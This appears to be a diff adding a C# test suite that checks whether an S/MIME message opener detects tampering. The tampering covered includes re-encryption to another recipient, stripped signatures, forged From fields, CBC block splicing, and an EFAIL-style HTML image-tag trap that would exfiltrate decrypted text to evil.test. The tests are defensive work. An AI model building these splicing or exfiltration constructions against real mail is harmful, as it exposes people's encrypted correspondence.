@@ -1,0 +1,240 @@
+using System.Formats.Asn1;
+using System.Security.Cryptography;
+using System.Security.Cryptography.X509Certificates;
+using System.Text;
+using MeSign.Statements.Sealing;
+using MeSign.Statements.Signing;
+using MeSign.Statements.Trust;
+using Microsoft.Extensions.Time.Testing;
+
+namespace MeSign.Statements.Tests.Sealing;
+
+/// <summary>What somebody on the way, or a dishonest recipient, can do to a message; each is named by the opener.</summary>
+public class MessageAttackTests
+{
+    private const string Unsigned = "The message is encrypted but not signed: anyone can have written it, and AES-256-CBC alone does not show what was spliced into it.";
+
+    private static readonly byte[] Pdf = [.. "%PDF-1.7\n"u8, .. RandomNumberGenerator.GetBytes(3_000)];
+    private static readonly X509Certificate2 Client = SealingPki.Recipient("rsa2048");
+    private static readonly X509Certificate2 Other = SealingPki.Recipient("rsa2048", "other@example.test");
+
+    [Fact]
+    public async Task Names_a_message_that_its_reader_encrypted_to_somebody_else()
+    {
+        var sent = await SealAsync(Client);
+
+        var resent = Encrypt(sent, Decrypt(sent, Client), Other);
+
+        Open(resent, Other).ShouldBe(["It was signed for client@example.test and opened with a certificate of other@example.test: somebody may have sent on what was meant for another."]);
+    }
+
+    [Fact]
+    public async Task A_copy_for_the_archive_is_not_an_attack()
+    {
+        var opened = Opener().Open(await SealAsync(Client, Other), [Other], archives: [Other]);
+
+        opened.Problems.ShouldBeEmpty();
+        opened.IsValid.ShouldBeTrue();
+    }
+
+    [Fact]
+    public async Task Names_an_encryption_that_the_sender_did_not_put_on()
+    {
+        var sent = Encoding.ASCII.GetString(await SealAsync());
+        var body = sent[sent.IndexOf("Content-Type: multipart/signed", StringComparison.Ordinal)..];
+
+        var wrapped = Encrypt(Encoding.ASCII.GetBytes(sent), Encoding.ASCII.GetBytes(body), Client);
+
+        Open(wrapped, Client).ShouldBe(["Its sender signed it to be sent without encryption (hp=\"clear\"): somebody else encrypted it."]);
+    }
+
+    [Fact]
+    public async Task Names_an_encryption_that_was_taken_off()
+    {
+        var sent = await SealAsync(Client);
+
+        var clear = Header(sent).Concat(Decrypt(sent, Client)).ToArray();
+
+        Open(clear).ShouldBe(["Its sender signed it to be sent encrypted (hp=\"cipher\"): somebody decrypted it and sent it on."]);
+    }
+
+    [Fact]
+    public async Task Names_a_stripped_signature()
+    {
+        var sent = await SealAsync(Client);
+        var content = Content(Decrypt(sent, Client));
+
+        Open(Encrypt(sent, content, Client), Client).ShouldContain(Unsigned);
+        Open([.. Header(sent), .. content]).ShouldContain("The message is neither signed nor encrypted.");
+    }
+
+    [Fact]
+    public async Task Names_a_swapped_sender()
+    {
+        var sent = Encoding.ASCII.GetString(await SealAsync());
+        var swapped = Encoding.ASCII.GetBytes(Replace(sent, "From: ", "statements@bank.evil.test"));
+
+        Open(swapped).ShouldBe(
+        [
+            "The field From was changed on the way.",
+            "The outer From address statements@bank.evil.test is not the signer's: the certificate is for statements@bank.test.",
+        ]);
+    }
+
+    [Fact]
+    public async Task Names_a_second_sender()
+    {
+        var sent = await SealAsync();
+
+        Open([.. "From: statements@bank.evil.test\r\n"u8, .. sent])
+            .ShouldContain("There is more than one From field: mail programs differ in which they show.");
+    }
+
+    [Fact]
+    public async Task Names_content_that_was_altered_under_an_opaque_signature()
+    {
+        var sent = await SealAsync(Client);
+        var signed = RawEntity.Read(Decrypt(sent, Client)).DecodedBody().ToArray();
+        signed[signed.AsSpan().IndexOf("is attached"u8)] ^= 0x20;
+
+        var altered = Encrypt(sent, [.. "Content-Type: application/pkcs7-mime; smime-type=signed-data\r\n\r\n"u8, .. signed], Client);
+
+        Open(altered, Client).ShouldHaveSingleItem().ShouldContain("digest");
+    }
+
+    [Fact]
+    public async Task A_spliced_first_block_makes_no_message()
+    {
+        // EFAIL: who knows the plaintext's first block chooses another one by the initialisation vector.
+        var sent = await SealAsync(Client);
+        var cms = RawEntity.Read(sent).DecodedBody().ToArray();
+        var vector = cms.AsSpan().IndexOf(AesCbc) + AesCbc.Length + 2;
+        var known = "Content-Type: ap"u8;
+        var wanted = "Content-type: t/"u8;
+        for (var i = 0; i < 16; i++)
+            cms[vector + i] ^= (byte)(known[i] ^ wanted[i]);
+
+        Open(Rewrap(sent, cms), Client).ShouldContain(Unsigned);
+    }
+
+    [Fact]
+    public async Task Spliced_blocks_are_named()
+    {
+        // The gadget block pair is the first ciphertext block again, in the middle of the content.
+        var sent = await SealAsync(Client);
+        var cms = RawEntity.Read(sent).DecodedBody().ToArray();
+        var content = cms.Length / 2 / 16 * 16 + cms.Length % 16;
+        cms.AsSpan(cms.Length - 32, 32).CopyTo(cms.AsSpan(content, 32));
+
+        var opened = Opener().Open(Rewrap(sent, cms), [Client]);
+
+        opened.IsValid.ShouldBeFalse();
+        opened.Problems.ShouldNotBeEmpty();
+    }
+
+    [Fact]
+    public async Task A_ciphertext_inside_somebody_elses_text_is_not_opened()
+    {
+        // EFAIL's other half: an image tag around a stolen message would send its plaintext away.
+        var stolen = Encoding.ASCII.GetString(await SealAsync(Client));
+        var cipher = stolen[stolen.IndexOf("Content-Type: application/pkcs7-mime", StringComparison.Ordinal)..];
+        var trap = "From: a@evil.test\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n"
+            + $"<img src=\"http://evil.test/\r\n--b\r\n{cipher}\r\n--b\r\nContent-Type: text/html\r\n\r\n\">\r\n--b--\r\n";
+
+        var opened = Opener().Open(Encoding.ASCII.GetBytes(trap), [Client]);
+
+        opened.Problems.ShouldBe(["The message is neither signed nor encrypted."]);
+        (opened.Text + opened.Html).ShouldNotContain("4321");
+    }
+
+    [Fact]
+    public void Names_a_signature_around_an_encryption()
+    {
+        using var bench = new Workbench();
+        bench.Write("content", "Content-Type: text/plain\r\n\r\nHello\r\n"u8);
+        bench.Run("openssl", "cms", "-encrypt", "-binary", "-in", "content", "-out", "encrypted", "-aes256", "-recip", bench.WriteCertificate(Client));
+        bench.Run("openssl", "cms", "-sign", "-nodetach", "-in", "encrypted", "-out", "message.eml", "-from", "statements@bank.test",
+            "-signer", bench.WriteCertificate(SealingPki.Signer()), "-inkey", bench.WriteKey(SealingPki.Signer()));
+
+        Open(File.ReadAllBytes(bench.Path("message.eml")), Client)
+            .ShouldContain("The signature is around the encryption and not on the content: the signer need not have known it.");
+    }
+
+    [Fact]
+    public async Task Names_a_certificate_that_has_expired()
+    {
+        var sent = await SealAsync(Client);
+        var opener = Opener(time: new FakeTimeProvider(new DateTimeOffset(2050, 1, 1, 0, 0, 0, TimeSpan.Zero)));
+
+        opener.Open(sent, [Client]).Problems.ShouldContain(problem => problem.Contains("expired at 2049-01-01", StringComparison.Ordinal));
+    }
+
+    [Fact]
+    public async Task Names_a_certificate_that_was_revoked()
+    {
+        var sent = await SealAsync(Client);
+        var list = new CertificateRevocationListBuilder();
+        list.AddEntry(SealingPki.Signer(), TimeProvider.System.GetUtcNow().AddDays(-2), X509RevocationReason.KeyCompromise);
+        var crl = list.Build(SealingPki.Root, 1, TimeProvider.System.GetUtcNow().AddDays(1), HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1, TimeProvider.System.GetUtcNow().AddDays(-1));
+
+        Opener(CrlSet.Of([crl])).Open(sent, [Client]).Problems
+            .ShouldContain(problem => problem.Contains("was revoked at", StringComparison.Ordinal));
+    }
+
+    /// <summary>id-aes256-CBC as it stands in DER.</summary>
+    private static ReadOnlySpan<byte> AesCbc => [0x06, 0x09, 0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x01, 0x2A];
+
+    private static MessageOpener Opener(CrlSet? crls = null, TimeProvider? time = null) =>
+        new(new CmsVerifier(TrustAnchors.Of([SealingPki.Root]), TrustAnchors.None, crls ?? CrlSet.None, time ?? TimeProvider.System));
+
+    private static IReadOnlyList<string> Open(byte[] eml, params X509Certificate2[] keys) => Opener().Open(eml, keys).Problems;
+
+    private static async Task<byte[]> SealAsync(params X509Certificate2[] recipients)
+    {
+        using var sealing = new SealingBench();
+        var issuer = SealingBench.Issuer();
+        var message = sealing.Composer.Compose(SealingBench.Job(), issuer, Pdf);
+        return (await sealing.Sealer.SealAsync(message, issuer, recipients, TestContext.Current.CancellationToken)).Eml.ToArray();
+    }
+
+    private static byte[] Decrypt(byte[] eml, X509Certificate2 key)
+    {
+        var info = new AsnReader(RawEntity.Read(eml).DecodedBody(), AsnEncodingRules.BER).ReadSequence();
+        info.ReadObjectIdentifier();
+        var content = EncryptedContent.Read(info.ReadSequence(new Asn1Tag(TagClass.ContextSpecific, 0)), authenticated: false);
+        return content.Decrypt(content.Keys.Single(candidate => candidate.IsFor(key)), key);
+    }
+
+    private static byte[] Encrypt(byte[] original, byte[] entity, X509Certificate2 recipient)
+    {
+        using var envelope = new Envelope([RecipientKey.Read(recipient)], entity.Length, ContentEncryption.Aes256Cbc, RsaKeyTransport.Pkcs1);
+        var cms = new byte[envelope.Length];
+        entity.CopyTo(cms, envelope.ContentOffset);
+        envelope.Close(cms);
+        return Rewrap(original, cms);
+    }
+
+    private static byte[] Rewrap(byte[] original, byte[] cms) =>
+    [
+        .. Header(original),
+        .. "Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\n"u8,
+        .. Encoding.ASCII.GetBytes(Convert.ToBase64String(cms, Base64FormattingOptions.InsertLineBreaks)),
+    ];
+
+    private static byte[] Header(byte[] eml) => eml[..eml.AsSpan().IndexOf("Content-Type:"u8)];
+
+    /// <summary>What an opaque signature is over.</summary>
+    private static byte[] Content(byte[] signedEntity) =>
+        new CmsVerifier(TrustAnchors.None, TrustAnchors.None, CrlSet.None, TimeProvider.System)
+            .VerifyOpaque(RawEntity.Read(signedEntity).DecodedBody(), CmsProfile.Smime).Content!.Value.ToArray();
+
+    private static string Replace(string eml, string field, string value)
+    {
+        var start = eml.IndexOf($"{field}", StringComparison.Ordinal);
+        var end = start;
+        do
+            end = eml.IndexOf("\r\n", end + 1, StringComparison.Ordinal);
+        while (eml[end + 2] == ' ');
+        return $"{eml[..start]}{field}{value}{eml[end..]}";
+    }
+}
